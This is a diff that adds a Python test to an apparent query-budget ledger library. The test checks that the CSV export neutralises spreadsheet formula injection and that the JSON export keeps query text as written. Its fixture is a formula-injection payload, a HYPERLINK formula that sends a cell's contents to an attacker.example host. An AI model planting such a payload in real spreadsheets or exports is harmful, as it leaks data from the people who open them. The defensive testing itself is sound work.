@@ -95,3 +95,21 @@ def test_history_export_and_close_write_what_is_pending(
     assert _hits(path) == 2
     ledger.close()
     assert _hits(path) == 3
+
+
+def test_the_csv_export_keeps_a_query_text_from_running_as_a_formula(tmp_path: Path) -> None:
+    import csv
+    import io
+    import json
+
+    ledger = Ledger(f"sqlite:///{tmp_path / 'l.db'}")
+    ledger.grant("alice", "people", Budget(epsilon=1))
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
+    for text in (evil, "-2+3", "@SUM(1)", "SELECT COUNT(*) AS n FROM people"):
+        ledger.reserve("alice", "people", LOSS, fingerprint=text, query=text).commit({"n": 1})
+    rows = csv.DictReader(io.StringIO(ledger.export_csv()))
+    cells = [row["query_text"] for row in rows if row["event"] == "charge"]
+    assert cells == ["'" + evil, "'-2+3", "'@SUM(1)", "SELECT COUNT(*) AS n FROM people"]
+    events = json.loads(ledger.export_json())["events"]
+    written = [e["query_text"] for e in events if e["event"] == "charge"]
+    assert written[0] == evil  # the JSON export and the ledger keep it as written
